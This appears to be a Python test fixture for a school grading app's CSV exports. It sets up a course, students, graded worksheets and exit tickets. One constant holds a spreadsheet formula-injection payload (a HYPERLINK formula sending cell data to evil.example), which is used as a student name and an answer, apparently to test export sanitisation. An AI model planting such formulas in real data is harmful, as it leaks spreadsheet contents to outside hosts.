"""A course with results to take home, and its files as a program reads them."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from typing import Any

from fastapi import FastAPI

from app.grading.grade import grade
from app.store import ClassSheetKey, Graded, Plan, Policies, Student, VariantSizes
from tests.helpers.school import School
from tests.helpers.stored_class import record

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'


def read(text: str) -> list[dict[str, str]]:
    """A CSV file as a program reads it."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


class Taught:
    """A course with two students, an activity with two sheets, and an anonymous and a named ticket."""

    def __init__(self, app: FastAPI, number: int = 1) -> None:
        self.school = School(app)
        self.ada = self.school.teacher(f"ada@{number}.example")
        self.course = self.school.course(f"Transformers {number}", self.ada)
        plan = Plan("Week 3", date(2026, 3, 2), Policies())
        self.activity = self.school.activity(self.course, plan=plan)
        named = replace(plan, title="Week 4", policies=Policies(ticket_anonymous=False))
        self.named = self.school.activity(self.course, sheets=(), plan=named)
        self.kim, self.lou = (self.school.student(self.course, name)[0] for name in ("Kim Secretname", EVIL))
        self.hand_in(self.kim, 0, {"queries.rows": "100"}, "first")
        self.hand_in(self.kim, 0, {"queries.rows": "100", "queries.columns": "4096/32"}, "second")
        self.hand_in(self.lou, 1, {"queries.rows": EVIL, "keys.rows": "-5"}, "third")
        for where, who in ((self.activity, self.kim), (self.activity, self.lou), (self.named, self.kim)):
            self.work.arrive(where.id, who.id)
            answers = {"muddiest": f"{who.id} wonders about {where.plan.title}"}
            anonymous = where.policies.ticket_anonymous
            self.school.store.exit_tickets.hand_in(where.id, who.id, answers, anonymous=anonymous)

    @property
    def work(self) -> Any:
        return self.school.store.classwork

    def hand_in(self, who: Student, item: int, answers: dict[str, str], client: str) -> None:
        sheet = str(self.activity.content.items[item].worksheet["key"])
        variant = self.school.library.variant(sheet)
        report = grade(variant, answers)
        marks = {str(blank): mark.kind for blank, mark in report.marks.items()}
        key = ClassSheetKey(who.id, self.activity.id, 1, item + 1, self.activity.content.items[item].sheet_key)
        sizes = VariantSizes(variant.model.key, variant.tokens)
        graded = Graded(marks, (), report.score, report.out_of)
        record(self.school.store, key, answers, graded, client_id=client, sizes=sizes)

    def get(self, name: str) -> Any:
        with self.school.browser(teacher=self.ada) as browser:
            got = browser.get(f"/courses/{self.course.id}/exports/{name}")
        assert got.status_code == 200, got.text
        return got
